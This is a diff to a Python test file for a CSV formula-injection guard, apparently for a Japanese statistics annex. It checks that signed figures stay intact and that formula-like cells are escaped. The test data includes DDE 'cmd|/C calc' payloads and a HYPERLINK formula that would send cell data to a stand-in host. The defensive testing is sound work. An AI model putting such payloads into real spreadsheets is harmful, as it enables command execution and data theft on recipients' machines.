@@ -83,7 +83,7 @@ def test_genuine_signed_values_of_the_kanagawa_annex_are_published_unchanged(fin
 
 
 @pytest.mark.parametrize("value", ["+1.6%(※)", "-3件", "+2.5ポイント", "-1,000人", "+1%", "-0.5", "−3件", "＋１．６％（※）",
-                                   "+ 2件", "-", "+", "-3件(※)", "+1,234.5PV"])
+                                   "+ 2件", "-", "+", "-3件(※)", "+1,234.5PV", "-5", "-1.5%", "+3", "-3件の減少"])
 def test_genuine_values_are_published_unchanged(value):
     assert neutralize(value, keep_values=True) == value
 
@@ -91,17 +91,24 @@ def test_genuine_values_are_published_unchanged(value):
 @pytest.mark.parametrize("value", [
     "+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0", '+HYPERLINK("http://x.example/?"&A1)', "-SUM(1)", "+A1",
     "=1+1", "@SUM(1)", "\t=1", "\r=1", "- 実施", "-3件\n=cmd|' /C calc'!A0", "+1 A1:B2", "+1(※)&A1", "+1＋cmd｜x",
-    "-1,,2", "+1\u202e", "-3件!A0", "+1;2",
+    "-1,,2", "+1\u202e", "-3件!A0", "+1;2", "-1+A1", "-実施", "--", "- ", "+-1", "-\n=1", "=-", "@",
 ])
 def test_values_a_spreadsheet_would_run_stay_guarded(value):
     assert neutralize(value, keep_values=True) == "'" + value
     assert neutralize(value) == "'" + value
 
 
-@pytest.mark.parametrize("value", ["+1%", "-3件", "-"])
+@pytest.mark.parametrize("value", ["+1%", "-3件", "-5", "+3", "-1.5%"])
 def test_csv_sent_to_departments_keeps_guarding_every_sign_so_excel_round_trips_it(value):
     assert neutralize(value) == "'" + value
     assert to_csv(["目標"], [[value]]).splitlines()[1] == "'" + value
+
+
+@pytest.mark.parametrize("value", ["-", "+"])
+def test_a_lone_sign_is_text_to_every_spreadsheet_and_is_written_as_is_in_every_csv(value):
+    assert neutralize(value) == neutralize(value, keep_values=True) == value
+    assert to_csv(["実績"], [[value]]).splitlines()[1] == value
+    assert to_csv(["実績"], [[value]], bom=True, keep_values=True).splitlines()[1] == value
 
 
 def test_a_reason_that_starts_like_a_formula_is_guarded_in_the_annex_and_a_signed_one_is_not(fy2020):
